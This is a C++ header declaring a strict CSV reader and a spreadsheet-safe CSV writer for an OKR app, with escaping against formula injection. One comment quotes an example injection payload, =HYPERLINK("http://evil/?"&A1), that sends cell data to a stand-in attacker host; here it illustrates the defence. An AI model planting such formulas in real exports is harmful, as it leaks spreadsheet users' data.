#pragma once
// Comma-separated values as RFC 4180 defines them, read strictly and written for
// spreadsheets. It knows nothing of OKRs: the tables of key results and check-ins are in
// csv_export.hpp and csv_import.hpp.
//
// Reading: cells separated by commas; rows ended by CRLF or LF (the last one optional); a
// cell that holds a comma, a quote or a line break is enclosed in quotes, with each quote
// inside doubled. A UTF-8 byte-order mark at the start is skipped. Anything else (a quote
// inside an unquoted cell, text after a closing quote, a quote never closed, a carriage
// return alone, bytes that are not UTF-8) stops the reading with a message saying where.
//
// Why our own reader and not a library: see the note at the top of csv.cpp.

#include <cstddef>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace okr {

struct CsvRow {
    size_t number = 0;  // 1-based, as a spreadsheet numbers its rows: the header is row 1
    std::vector<std::string> cells;
};

struct CsvError {
    size_t row = 0;   // 1-based
    size_t cell = 0;  // 1-based position of the cell in its row; 0 when the problem is the file's
    std::string message;
};

struct CsvReadResult {
    std::vector<CsvRow> rows;       // the rows before the error, or all of them
    std::optional<CsvError> error;  // why reading stopped early
};

// Never throws. An empty file (or one holding only a byte-order mark) has no rows.
CsvReadResult read_csv(std::string_view bytes);

// ---- writing ------------------------------------------------------------------------------

// A spreadsheet runs a cell that starts with = + - or @ as a formula, and some also one that
// starts with a tab or a carriage return. Text in a workspace comes from every teammate's
// file, so a note such as =HYPERLINK("http://evil/?"&A1) must not run when someone opens an
// export: such text gets a leading apostrophe, which spreadsheets read as "this is text".
// Text that already starts with an apostrophe gets one more, so that from_formula_safe()
// gives back exactly what was written.
std::string formula_safe(std::string_view text);
// The inverse, for cells read back from a spreadsheet: one leading apostrophe is dropped
// when formula_safe() would have added it; any other text is returned as it is.
std::string_view from_formula_safe(std::string_view cell);

// Builds a CSV file for spreadsheets: UTF-8 with a byte-order mark (without one, Excel reads
// the file in the system's legacy code page and "Kovač" comes out garbled), cells separated
// by commas, rows ended by CRLF as RFC 4180 asks.
class CsvWriter {
public:
    CsvWriter();

    // Text from the workspace: made formula-safe, then quoted where needed.
    void text(std::string_view value);
    // A number we format ourselves (number_text of export.hpp) is never made formula-safe: its
    // leading minus is a sign, and an apostrophe would turn -3.5 into text no sum adds up.
    void number(double value);
    // An empty cell when there is no number.
    void number(const std::optional<double>& value);
    void end_row();

    const std::string& bytes() const { return bytes_; }

private:
    void cell(std::string_view written);

    std::string bytes_;
    bool row_has_cells_ = false;
};

}  // namespace okr
